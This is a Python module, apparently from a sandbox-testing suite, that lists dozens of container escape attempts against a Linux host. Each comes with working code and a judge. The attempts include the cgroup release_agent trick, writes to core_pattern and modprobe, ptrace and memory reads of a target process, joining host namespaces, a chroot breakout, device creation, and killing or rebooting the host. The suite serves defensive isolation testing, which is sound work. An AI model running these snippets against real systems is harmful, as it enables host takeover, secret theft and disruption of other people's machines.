"""Attempts to get out of a sandbox: to the host's files, processes, devices, kernel, or to a neighbour."""

from __future__ import annotations

import socket

from atoll_attacks import judges
from atoll_attacks.attempt import Attempt, Control, Family, Impossible, Judge, Program
from atoll_attacks.scene import Scene


def _escape(
    name: str,
    goal: str,
    source: str,
    judge: Judge,
    control: Control | Impossible | None = None,
    *,
    user: str = "root",
) -> Attempt:
    return Attempt(name, Family.ESCAPE, goal, Program(source, user), judge, control or Control())


_MOUNTS = [
    _escape(
        "mount-tmpfs",
        "mount a file system",
        """
os.makedirs("/tmp/m", exist_ok=True)
call("mount", TAG.encode(), b"/tmp/m", b"tmpfs", 0, None)
hold()
""",
        judges.mounted,
    ),
    _escape(
        "mount-as-nested-root",
        "mount in a user namespace of one's own",
        """
def act():
    call("unshare", CLONE["user"] | CLONE["mnt"])
    os.makedirs("/tmp/m2", exist_ok=True)
    call("mount", TAG.encode(), b"/tmp/m2", b"tmpfs", 0, None)
in_child(act)
""",
        judges.mounted,
        user="user",
    ),
    _escape(
        "mount-new-api",
        "make a mount by descriptor",
        """
context = call("fsopen", b"tmpfs", 0)
call("fsconfig", context, 6, None, None, 0)
kept = call("fsmount", context, 0, 0)
hold()
""",
        judges.holds(r"fscontext"),
    ),
    _escape(
        "mount-clone-tree",
        "clone a mount by descriptor and attach it",
        """
os.makedirs("/tmp/m3/" + TAG, exist_ok=True)
tree = call("open_tree", -100, b"/tmp/m3", 1)
call("move_mount", tree, b"", -100, ("/tmp/m3/" + TAG).encode(), 4)
hold()
""",
        judges.mounted,
    ),
    _escape(
        "unmask-proc",
        "take a mask off /proc",
        """
attempt(call, "umount2", b"/proc/kcore", 2)
attempt(call, "umount2", b"/proc/sys", 2)
attempt(call, "mount", None, b"/proc/sys", None, 4096 | 32, None)
descriptor = os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)
hold()
""",
        judges.may_write("core_pattern"),
        Control(needs="/proc/sys/kernel/core_pattern"),
    ),
    _escape(
        "write-shown-machine",
        "write what all programs are shown of the machine",
        """
places = ["/proc/" + name for name in ("meminfo", "cpuinfo", "stat", "loadavg")] + ["/sys/devices/system/cpu/online"]
ways = [place for way in ("", "/proc/1/root", "/proc/self/root") for place in (way + place for place in places)]
for number in os.listdir("/proc/2/fd") if os.path.exists("/proc/2") else []:
    ways.append("/proc/2/fd/" + number + "/meminfo")
for place in ways:
    attempt(os.chmod, place, 0o666)
kept = [attempt(os.open, place, os.O_WRONLY) for place in ways]
hold(kept)
""",
        judges.may_write("meminfo"),
        Control(needs="/proc/meminfo"),
    ),
    _escape(
        "mount-block-device",
        "mount the host's disk",
        """
device = os.makedev(*W["block"])
for place in ("/tmp/d1", "/dev/shm/d1", "/root/d1", "/var/tmp/d1"):
    if attempt(os.mknod, place, 0o600 | stat.S_IFBLK, device) is None and os.path.exists(place):
        descriptor = attempt(os.open, place, os.O_RDONLY)
        if descriptor is not None:
            print(os.read(descriptor, 4096))
        os.unlink(place)
""",
        judges.leaked,
        Control(needs="canary:block"),
    ),
]

_RELEASE = """
place = "/tmp/cg-" + TAG
os.makedirs(place)
def armed():
    open(place + "/release_agent", "w").write(W["script"])
    os.mkdir(place + "/x")
    open(place + "/x/notify_on_release", "w").write("1")
    pid = os.fork()
    if pid == 0:
        open(place + "/x/cgroup.procs", "w").write("0")
        os._exit(0)
    os.waitpid(pid, 0)
    time.sleep(0.5)
try:
    MOUNT
    armed()
finally:
    attempt(os.rmdir, place + "/x")
    attempt(call, "umount2", place.encode(), 2)
    attempt(os.rmdir, place)
"""

_CGROUP = [
    _escape(
        "cgroup-release-agent",
        "have the host's kernel start a program as root",
        _RELEASE.replace(
            "MOUNT", 'call("mount", b"cgroup", place.encode(), b"cgroup", 0, ("none,name=" + TAG).encode())'
        ),
        judges.dropped,
        Control(needs="/sys/fs/cgroup/memory"),
    ),
    _escape(
        "cgroup-release-agent-nested",
        "the same with a user and cgroup namespace of one's own",
        _RELEASE.replace(
            "MOUNT",
            'call("unshare", CLONE["user"] | CLONE["mnt"] | CLONE["cgroup"]); '
            'call("mount", b"cgroup", place.encode(), b"cgroup", 0, b"memory")',
        ),
        judges.dropped,
        Impossible("the kernel itself refuses release_agent outside its first user namespace"),
        user="user",
    ),
    _escape(
        "cgroup-files",
        "reach the control groups of the host",
        """
found = []
for top in ("/sys/fs/cgroup", "/proc/1/root/sys/fs/cgroup", "/sys"):
    for root, _, names in os.walk(top):
        found += [os.path.join(root, name) for name in names if name in ("cgroup.procs", "release_agent", "tasks")]
kept = [attempt(os.open, path, os.O_WRONLY) for path in found[:20]]
hold(kept)
""",
        judges.may_write("cgroup.procs"),
        Control(needs="/sys/fs/cgroup/memory/cgroup.procs"),
    ),
]

_WRITES = [
    _escape(f"write-{name}", goal, f"""
descriptor = os.open({path!r}, os.O_WRONLY)
hold()
""", judges.may_write(path.rpartition("/")[2]), Control(needs=path))
    for name, path, goal in (
        ("core-pattern", "/proc/sys/kernel/core_pattern", "have the kernel start a program for a crash"),
        ("modprobe-path", "/proc/sys/kernel/modprobe", "have the kernel start a program for a module"),
        ("hotplug-helper", "/sys/kernel/uevent_helper", "have the kernel start a program for a device"),
        ("sysrq", "/proc/sysrq-trigger", "crash or restart the machine"),
        ("panic-on-oom", "/proc/sys/vm/panic_on_oom", "make the machine's settings one's own"),
        ("randomize-va", "/proc/sys/kernel/randomize_va_space", "weaken the kernel's defences"),
        ("drop-caches", "/proc/sys/vm/drop_caches", "slow the machine down"),
        ("host-pid-max", "/proc/sys/kernel/pid_max", "starve the machine of process ids"),
        ("printk", "/proc/sys/kernel/printk", "silence the kernel"),
        ("oom-of-others", "/proc/sys/vm/overcommit_memory", "change how the machine hands out memory"),
    )
]  # fmt: skip

_PROCESSES = [
    _escape(
        "ptrace-first-process",
        "take over the guest",
        """
call("ptrace", 16, TARGET, 0, 0)
hold()
""",
        judges.traced,
    ),
    _escape(
        "ptrace-seize",
        "take over the guest without stopping it",
        """
call("ptrace", 0x4206, TARGET, 0, 0)
hold()
""",
        judges.traced,
    ),
    _escape(
        "read-memory",
        "read the guest's memory",
        """
kept = os.open(f"/proc/{TARGET}/mem", os.O_RDONLY)
hold()
""",
        judges.memory_open,
    ),
    _escape(
        "write-memory",
        "write the guest's memory",
        """
kept = os.open(f"/proc/{TARGET}/mem", os.O_RDWR)
hold()
""",
        judges.memory_open,
    ),
    _escape(
        "process-vm-readv",
        "read the guest's memory by system call",
        """
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
lines = open(f"/proc/{TARGET}/maps").read().splitlines()
for line in lines:
    start, end = (int(part, 16) for part in line.split()[0].split("-"))
    size = min(end - start, 1 << 20)
    buffer = ctypes.create_string_buffer(size)
    mine, theirs = Vector(ctypes.addressof(buffer), size), Vector(start, size)
    if attempt(call, "process_vm_readv", TARGET, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0):
        print(re.findall(rb"canary-[0-9a-f]{32}", buffer.raw))
""",
        judges.leaked,
    ),
    _escape(
        "environment-of-first-process",
        "read the server's environment",
        """
show(f"/proc/{TARGET}/environ")
""",
        judges.leaked,
    ),
    _escape(
        "environment-of-threads",
        "the same by the task directory",
        """
for task in os.listdir(f"/proc/{TARGET}/task"):
    attempt(show, f"/proc/{TARGET}/task/{task}/environ")
""",
        judges.leaked,
    ),
    _escape(
        "root-of-first-process",
        "enter the host by /proc/1/root",
        """
for link in ("root", "cwd"):
    attempt(show, f"/proc/{TARGET}/{link}{W['secret']}")
    attempt(show, f"/proc/{TARGET}/{link}/../../../../../..{W['secret']}")
""",
        judges.leaked,
    ),
    _escape(
        "descriptors-of-first-process",
        "open what the guest has open",
        """
kept = []
for number in range(64):
    kept.append(attempt(os.open, f"/proc/{TARGET}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK))
hold(kept)
""",
        judges.holds_what_target_holds,
    ),
    _escape(
        "steal-descriptors",
        "duplicate what the guest has open",
        """
pidfd = call("pidfd_open", TARGET, 0)
kept = [attempt(call, "pidfd_getfd", pidfd, number, 0) for number in range(64)]
hold(kept)
""",
        judges.holds_what_target_holds,
    ),
    _escape(
        "overwrite-program",
        "overwrite the program that the host runs (/proc/1/exe)",
        """
path = attempt(os.open, f"/proc/{TARGET}/exe", os.O_PATH)
kept = [attempt(os.open, f"/proc/{TARGET}/exe", os.O_WRONLY)]
if path is not None:
    kept.append(attempt(os.open, f"/proc/self/fd/{path}", os.O_RDWR))
hold(kept)
""",
        judges.holds_program_of_target,
        Control(
            Program("""
os.kill(TARGET, signal.SIGKILL)  # a running program cannot be written; one that has just ended can
kept = []
for _ in range(200):
    try:
        kept.append(os.open(os.path.join(os.path.dirname(W["secret"]), "victim"), os.O_WRONLY))
        break
    except OSError:
        time.sleep(0.01)
hold()
"""),
            judge=judges.may_write("/victim"),
        ),
    ),
    _escape(
        "find-host-processes",
        "see the host's processes",
        """
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            show(f"/proc/{entry}/environ")
        except OSError:
            pass
""",
        judges.leaked,
    ),
    _escape(
        "kill-host-process",
        "end a process of the host",
        """
attempt(os.kill, W["victim"], signal.SIGKILL)
time.sleep(0.2)
""",
        judges.killed,
    ),
    _escape(
        "kill-by-pidfd",
        "the same by descriptor",
        """
pidfd = call("pidfd_open", W["victim"], 0)
call("pidfd_send_signal", pidfd, 9, None, 0)
time.sleep(0.2)
""",
        judges.killed,
    ),
    _escape(
        "kill-host-thread",
        "the same by thread",
        """
attempt(call, "tkill", W["victim"], 9)
time.sleep(0.2)
""",
        judges.killed,
    ),
    _escape(
        "kill-everything",
        "end every process that can be reached",
        """
if TARGET == 1:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.kill(-1, signal.SIGTERM)
time.sleep(0.2)
""",
        judges.killed,
        Impossible("it would end everything on this machine"),
    ),
    _escape(
        "priority-of-host-process",
        "starve a process of the host",
        """
call("setpriority", 0, W["victim"], 19)
""",
        lambda scene: "changed a host process's priority" if _nice(scene.world.places["victim"]) == 19 else None,
    ),
    _escape(
        "limits-of-host-process",
        "cut a host process's limits",
        """
call("prlimit64", W["victim"], 7, struct.pack("QQ", 7, 1000), None)
""",
        lambda scene: "changed a host process's limits" if _files(scene.world.places["victim"]) == 7 else None,
    ),
]


def _nice(pid: int) -> int:
    import os

    return os.getpriority(os.PRIO_PROCESS, pid)


def _files(pid: int) -> int:
    import resource

    return resource.prlimit(pid, resource.RLIMIT_NOFILE)[0]


_HIDE = """
call("mount", b"hide", os.path.dirname(W["secret"]).encode(), b"tmpfs", 0, None)
"""

_NAMESPACES = [
    _escape(
        "nsenter-mount",
        "join the host's mount namespace by /proc/1/ns",
        """
for pid in (TARGET, W["host_pid"]):
    descriptor = attempt(os.open, f"/proc/{pid}/ns/mnt", os.O_RDONLY)
    if descriptor is not None and attempt(call, "setns", descriptor, 0) is not None:
        attempt(show, W["secret"])
""",
        judges.leaked,
        Control(
            Program(
                _HIDE
                + """
call("setns", os.open(f"/proc/{TARGET}/ns/mnt", os.O_RDONLY), 0)
show(W["secret"])
"""
            )
        ),
    ),
    _escape(
        "nsenter-pidfd",
        "join namespaces by a process descriptor",
        """
for pid in (TARGET, W["host_pid"]):
    pidfd = attempt(call, "pidfd_open", pid, 0)
    if pidfd is not None:
        for kind in ("mnt", "pid", "net", "user"):
            attempt(call, "setns", pidfd, CLONE[kind])
        attempt(show, W["secret"])
""",
        judges.leaked,
        Control(
            Program(
                _HIDE
                + """
call("setns", call("pidfd_open", TARGET, 0), CLONE["mnt"])
show(W["secret"])
"""
            )
        ),
    ),
    *(
        _escape(
            f"new-namespace-{kind}",
            f"make a {kind} namespace, with every capability in it",
            f"""
in_child(lambda: call("unshare", CLONE[{kind!r}] | CLONE["user"]))
""",
            judges.new_namespace(kind),
            user="user",
        )
        for kind in ("user", "mnt", "net", "ipc", "uts", "cgroup")
    ),
    _escape(
        "clone-user-namespace",
        "the same by clone",
        """
pid = call("clone", CLONE["user"] | 17, 0, 0, 0, 0)
if pid == 0:
    time.sleep(3)
    os._exit(0)
hold()
""",
        judges.new_namespace("user"),
        user="user",
    ),
    _escape(
        "clone3-user-namespace",
        "the same by clone3, whose flags no filter can see",
        """
arguments = struct.pack("11Q", CLONE["user"], 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
pid = call("clone3", arguments, len(arguments))
if pid == 0:
    time.sleep(3)
    os._exit(0)
hold()
""",
        judges.new_namespace("user"),
        user="user",
    ),
]

_OBJECTS = [
    _escape(
        "bpf",
        "load code into the kernel",
        """
kept = call("bpf", 0, struct.pack("6I", 2, 4, 4, 1, 0, 0) + bytes(96), 120)
hold()
""",
        judges.holds(r"bpf-map"),
    ),
    _escape(
        "perf",
        "watch the kernel",
        """
kept = call("perf_event_open", struct.pack("IIQ", 1, 112, 0) + bytes(96), 0, -1, -1, 0)
hold()
""",
        judges.holds(r"perf_event"),
    ),
    _escape(
        "userfaultfd",
        "stop the kernel in the middle of a copy",
        """
kept = call("userfaultfd", 0)
hold()
""",
        judges.holds(r"userfaultfd"),
    ),
    _escape(
        "io-uring",
        "go around the filter with io_uring",
        """
kept = call("io_uring_setup", 4, bytes(120))
hold()
""",
        judges.holds(r"io_uring"),
        Control(needs="/proc/sys/kernel/io_uring_disabled"),
    ),
    _escape(
        "fanotify",
        "watch every file of a mount",
        """
kept = call("fanotify_init", 0, os.O_RDONLY)
hold()
""",
        judges.holds(r"fanotify"),
    ),
    _escape(
        "file-handle",
        "open a host file by its handle",
        """
handle = bytes.fromhex(W["handle"])
for place in ("/", "/tmp", "/etc/hosts", "/var/tmp", "/usr", "/dev/shm", "/proc/self/cwd"):
    mount = attempt(os.open, place, os.O_RDONLY)
    if mount is not None:
        found = attempt(call, "open_by_handle_at", mount, handle, os.O_RDONLY)
        if found is not None:
            print(os.read(found, 200))
""",
        judges.leaked,
    ),
    _escape(
        "keyring",
        "read the host's keys",
        """
for ring in (-4, -5, -3):
    found = attempt(call, "keyctl", 10, ring, b"user", b"atoll-canary", 0)
    if found is not None:
        buffer = ctypes.create_string_buffer(200)
        call("keyctl", 11, found, buffer, 200)
        print(buffer.value)
""",
        judges.leaked,
        Control(
            Program("""
call("keyctl", 1, None)
call("add_key", b"user", b"atoll-canary", W["secret"].encode(), len(W["secret"]), -3)
found = call("keyctl", 10, -3, b"user", b"atoll-canary", 0)
buffer = ctypes.create_string_buffer(200)
call("keyctl", 11, found, buffer, 200)
show(buffer.value.decode())
""")
        ),
    ),
    _escape(
        "kernel-module",
        "load a module",
        """
image = open(sys.executable, "rb").read(65536)
call("init_module", image, len(image), b"")
""",
        judges.changed("modules"),
        Impossible("a module would have to be built for this kernel and loaded into it"),
    ),
    _escape(
        "unload-module",
        "unload the host's modules",
        """
for name in (b"nf_tables", b"overlay", b"loop"):
    attempt(call, "delete_module", name, 0o4000)
""",
        judges.changed("modules"),
        Impossible("it would take a module away from this machine"),
    ),
    _escape(
        "kexec",
        "start another kernel",
        """
call("kexec_load", 0, 0, None, 0)
call("kexec_load", 0, 1, bytes(32), 0)
""",
        judges.changed("kexec"),
        Impossible("it would load another kernel on this machine"),
    ),
    _escape(
        "reboot",
        "restart the machine",
        """
call("reboot", 0xFEE1DEAD, 672274793, 0x1234567, None)
""",
        judges.changed("boot"),
        Impossible("it would restart this machine"),
    ),
    _escape(
        "set-clock",
        "set the machine's clock",
        """
now = time.time() + 3600
call("clock_settime", 0, struct.pack("qq", int(now), 0))
""",
        judges.changed("clock"),
        Impossible("it would set this machine's clock"),
    ),
    _escape(
        "host-name",
        "rename the machine",
        """
call("sethostname", b"owned", 5)
""",
        judges.changed("host name"),
        Impossible("it would rename this machine"),
    ),
    _escape(
        "domain-name",
        "rename the machine's domain",
        """
call("setdomainname", b"owned", 5)
""",
        judges.changed("domain name"),
        Impossible("it would rename this machine's domain"),
    ),
    _escape(
        "swap",
        "put swap on the machine",
        """
open("/tmp/swap", "wb").write(bytes(4086) + b"SWAPSPACE2" + bytes(1 << 20))
call("swapon", b"/tmp/swap", 0)
""",
        judges.changed("swaps"),
        Impossible("it would change this machine's swap"),
    ),
    _escape(
        "kernel-log",
        "read the kernel's log",
        """
buffer = ctypes.create_string_buffer(1 << 20)
length = attempt(call, "syslog", 3, buffer, len(buffer)) or 0
print(buffer.raw[:length].decode("latin-1"))
""",
        judges.leaked,
        Control(needs="/dev/kmsg"),
    ),
    _escape(
        "kernel-log-device",
        "write the kernel's log",
        """
for place in ("/dev/kmsg", "/tmp/kmsg", "/dev/shm/kmsg"):
    if not os.path.exists(place):
        attempt(os.mknod, place, 0o666 | stat.S_IFCHR, os.makedev(1, 11))
    descriptor = attempt(os.open, place, os.O_WRONLY)
    if descriptor is not None:
        attempt(os.write, descriptor, TAG.encode())
""",
        judges.wrote_kernel_log,
        Control(needs="/dev/kmsg"),
    ),
    _escape(
        "kernel-log-proc",
        "take the kernel's messages away",
        """
kept = os.open("/proc/kmsg", os.O_RDONLY | os.O_NONBLOCK)
hold()
""",
        judges.may_read("/kmsg"),
        Control(needs="/proc/kmsg"),
    ),
    _escape(
        "terminal-input",
        "type into a terminal that a more privileged program reads",
        """
import pty
primary, secondary = pty.openpty()
def act():
    os.setsid()
    fcntl.ioctl(secondary, 0x540E, 0)
    for letter in "reve:" + W["secret"] + "\\n":
        fcntl.ioctl(secondary, 0x5412, letter.encode())
    print("typed", os.read(secondary, 200), flush=True)
    kept = os.open(W["drop"] + "/typed", os.O_CREAT | os.O_WRONLY)
in_child(act)
""",
        judges.dropped,
    ),
]

_SOCKETS = [
    _escape(
        "abstract-socket",
        "reach a service of the host by an abstract name",
        """
with socket.socket(socket.AF_UNIX) as s:
    s.connect("\\0" + W["abstract"])
    print(s.recv(200))
""",
        judges.leaked,
    ),
    _escape(
        "path-socket",
        "reach a service of the host by a socket file",
        """
for place in (W["socket"], f"/proc/{TARGET}/root{W['socket']}"):
    with socket.socket(socket.AF_UNIX) as s:
        if attempt(s.connect, place) is None:
            print(attempt(s.recv, 200))
""",
        judges.leaked,
    ),
    _escape(
        "shared-memory",
        "read shared memory of the host",
        """
for number in (attempt(call, "shmget", W["shm_key"], 4096, 0), W["shm_id"]):
    if number is not None:
        libc.shmat.restype = ctypes.c_void_p
        address = libc.shmat(number, None, 0o10000)
        if address not in (None, ctypes.c_void_p(-1).value):
            print(ctypes.string_at(address, 64))
""",
        judges.leaked,
    ),
    _escape(
        "dev-shm",
        "read POSIX shared memory of the host",
        """
show(W["dev_shm"])
""",
        judges.leaked,
    ),
    *(
        _escape(
            f"socket-{name}",
            goal,
            f"""
kept = socket.socket({family}, {kind}, {protocol})
hold()
""",
            judges.holds_socket(family),
        )
        for name, family, kind, protocol, goal in (
            ("packet", socket.AF_PACKET, socket.SOCK_RAW, 0, "send raw frames"),
            ("vsock", socket.AF_VSOCK, socket.SOCK_STREAM, 0, "reach the hypervisor"),
        )
    ),
    _escape(
        "socket-netfilter",
        "change the rules that hold the network",
        """
kept = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
hold()
""",
        judges.holds_socket(socket.AF_NETLINK, protocol=12),
    ),
    _escape(
        "socket-audit",
        "speak to the kernel's audit",
        """
kept = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15)
hold()
""",
        judges.holds_socket(socket.AF_NETLINK, protocol=15),
    ),
]

_JAIL = """
jail = "/tmp/jail-" + TAG
os.makedirs(jail + "/inner")
"""

_FILES = [
    _escape(
        "chroot-breakout",
        "climb out of the changed root",
        """
os.makedirs("/tmp/jail/x", exist_ok=True)
os.chroot("/tmp/jail")
for _ in range(64):
    os.chdir("..")
os.chroot(".")
show(W["secret"])
""",
        judges.leaked,
    ),
    _escape(
        "leaked-descriptor",
        "use a directory that the host left open",
        """
for entry in os.listdir("/proc/self/fd"):
    for up in ("", "../" * 12):
        try:
            inner = os.open(up + W["secret"].lstrip("/"), os.O_RDONLY, dir_fd=int(entry))
            print(os.read(inner, 200))
        except OSError:
            pass
""",
        judges.leaked,
        Control(
            Program(
                _JAIL
                + """
outside = os.open("/", os.O_RDONLY)
os.chroot(jail)
os.chdir("/")
print(os.read(os.open(W["secret"].lstrip("/"), os.O_RDONLY, dir_fd=outside), 200))
"""
            )
        ),
    ),
    _escape(
        "leaked-working-directory",
        "use a working directory outside",
        """
for up in ("", "../" * 12, "/proc/self/cwd/" + "../" * 12):
    attempt(show, up + W["secret"].lstrip("/"))
""",
        judges.leaked,
        Control(
            Program(
                _JAIL
                + """
os.chroot(jail)
show("../" * 12 + W["secret"].lstrip("/"))
"""
            )
        ),
    ),
    _escape(
        "plain-path",
        "read a host file by its path",
        """
show(W["secret"])
""",
        judges.leaked,
    ),
    _escape(
        "every-device",
        "open a device of the host",
        """
kept = []
for root, _, names in os.walk("/dev"):
    for name in names:
        kept.append(attempt(os.open, os.path.join(root, name), os.O_RDONLY | os.O_NONBLOCK))
hold()
""",
        judges.holds_device,
    ),
    _escape(
        "make-devices",
        "make a device of one's own and open it",
        """
kept = []
for kind, major, minor in ((stat.S_IFCHR, 1, 1), (stat.S_IFCHR, 1, 2), (stat.S_IFCHR, 1, 4), (stat.S_IFCHR, 10, 229),
                           (stat.S_IFCHR, 10, 200), (stat.S_IFCHR, 10, 232), (stat.S_IFCHR, 10, 237),
                           (stat.S_IFBLK, 7, 0), (stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 254, 0), (stat.S_IFBLK, 259, 0)):
    for place in ("/tmp/n", "/dev/n", "/dev/shm/n", "/dev/pts/n"):
        if attempt(os.mknod, place, 0o600 | kind, os.makedev(major, minor)) is None and os.path.exists(place):
            kept.append(attempt(os.open, place, os.O_RDONLY | os.O_NONBLOCK))
            os.unlink(place)
hold(kept)
""",
        judges.holds_device,
    ),
    _escape(
        "kernel-memory",
        "read the kernel's memory",
        """
print(open("/proc/kcore", "rb").read(4).hex(), flush=True)
""",
        judges.printed(lambda scene: "7f454c46"),
        Control(needs="/proc/kcore"),
    ),
    _escape(
        "kernel-addresses",
        "learn where the kernel lies",
        """
for line in open("/proc/kallsyms"):
    print(line)
    break
""",
        judges.printed(lambda scene: _first_line("/proc/kallsyms")),
        Control(needs="/proc/kallsyms"),
    ),
    _escape(
        "boot-line",
        "learn the host's boot line",
        """
show("/proc/cmdline")
""",
        judges.printed(lambda scene: _first_line("/proc/cmdline")),
    ),
    _escape(
        "host-paths",
        "learn paths of the host from the mount table",
        """
show("/proc/self/mountinfo")
show("/proc/mounts")
""",
        judges.printed(lambda scene: scene.world.directory.name if scene.sandbox is None else _data(scene)),
        Control(
            Program("""
call("mount", os.path.dirname(W["secret"]).encode(), b"/mnt", None, 4096, None)
show("/proc/self/mountinfo")
""")
        ),
    ),
    _escape(
        "set-user-id",
        "be the host's root by a set-user-id program",
        """
import shutil
shutil.copy("/bin/sleep", "/tmp/rooted")
os.chown("/tmp/rooted", 0, 0)
os.chmod("/tmp/rooted", 0o6755)
os.setuid(0)
hold()
""",
        judges.host_identity,
    ),
    _escape(
        "unmapped-user",
        "be a user whom nobody mapped",
        """
for uid in (65536, 100000, 524288, 4294967294):
    attempt(os.setresuid, uid, uid, uid)
hold()
""",
        judges.host_identity,
    ),
    _escape(
        "root-by-sudo",
        "be the host's root by sudo",
        """
if TARGET == 1:
    os.execvp("sudo", ["sudo", sys.executable or "python3", "-c", "import time; time.sleep(2)", TAG])
hold()
""",
        judges.host_identity,
        user="user",
    ),
]


def _first_line(path: str) -> str:
    with open(path) as source:
        return source.readline()


def _data(scene: Scene) -> str:
    return str(scene.world.data_dir) if scene.world.data_dir is not None else "no such words"


ATTEMPTS: tuple[Attempt, ...] = (
    *_MOUNTS, *_CGROUP, *_WRITES, *_PROCESSES, *_NAMESPACES, *_OBJECTS, *_SOCKETS, *_FILES,
)  # fmt: skip
